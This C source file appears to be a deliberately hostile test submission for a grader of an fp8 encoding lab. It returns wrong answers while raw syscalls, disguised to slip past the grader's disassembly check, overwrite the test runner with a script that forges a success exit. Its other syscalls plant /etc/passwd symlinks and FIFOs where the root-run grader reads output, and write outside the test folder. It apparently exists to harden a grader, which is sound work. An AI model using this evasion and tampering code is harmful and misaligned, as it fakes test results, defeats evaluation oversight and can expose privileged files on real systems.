/* With raw system calls (inline assembly: no symbol for nm to see), tries
 * what its own test's process could do to the grader: overwrite the runner
 * that later tests run, plant a link or a FIFO where the next test's output
 * goes (which the grader reads as root), and write outside its folder.
 * Its answers are all wrong: a test it passes is one the attack forged (a
 * script in the runner's place that exits with the runner's success
 * status). x86-64 Linux only (elsewhere: only wrong answers). */
/* The syscall instruction hidden from the grader's disassembly (which
   refuses a plain one at build time): its two bytes are a mov's constant,
   jumped into, so that the tests' filter is what stops it. */
#define SYSCALL_HIDDEN "jmp 7f+2\n7: .byte 0x66, 0xb8, 0x0f, 0x05\n"
#if defined(__x86_64__) && defined(__linux__)
static long raw3(long n, long a, long b, long c)
{
    long ret;
    __asm__ volatile(SYSCALL_HIDDEN : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}
static void attack(void)
{
    static int done;
    if (done++)
        return;
    /* open(O_WRONLY|O_TRUNC) 2; mkdir 83; symlink 88; mknod 133; close 3.
     * The paths are tried from the test's folder (stage/out/<test>) and from
     * the stage itself, wherever the grader runs a test. */
    static const char *const runners[] = {"../../runner", "runner", "../runner"};
    static const char *const news[] = {"../../runner.new", "runner.new", "../runner.new"};
    for (int i = 0; i < 3; i++) {
        /* open(O_WRONLY|O_CREAT|O_TRUNC), write, close, rename 82 */
        long fd = raw3(2, (long)news[i], 01 | 0100 | 01000, 0755);
        if (fd >= 0) {
            raw3(1, fd, (long)"#!/bin/sh\nexit 93\n", 18);
            raw3(3, fd, 0, 0);
            raw3(82, (long)news[i], (long)runners[i], 0);
        }
    }
    raw3(83, (long)"../encode_exact", 0777, 0);
    raw3(88, (long)"/etc/passwd", (long)"../encode_exact/encode_exact.out", 0);
    raw3(133, (long)"../encode_exact/encode_exact.out", 010000 | 0666, 0);
    raw3(88, (long)"/etc/passwd", (long)"../../log/encode_exact.runner", 0);
    raw3(88, (long)"/etc/passwd", (long)"out/encode_exact.out", 0);
    raw3(133, (long)"out/encode_exact.runner", 010000 | 0666, 0);
    long fd = raw3(2, (long)"/tmp/fp8lab-hostile-was-here", 01 | 0100, 0644);
    if (fd >= 0)
        raw3(3, fd, 0, 0);
}
#else
static void attack(void) {}
#endif
float lab0_decode(const lab0_format *f, uint8_t code)
{
    (void)f, (void)code;
    attack();
    return 0.0f;
}
uint8_t lab0_encode(const lab0_format *f, float x, int saturate)
{
    (void)f, (void)x, (void)saturate;
    attack();
    return 0;
}
lab0_limits lab0_format_limits(const lab0_format *f)
{
    lab0_limits none = {0};
    (void)f;
    attack();
    return none;
}
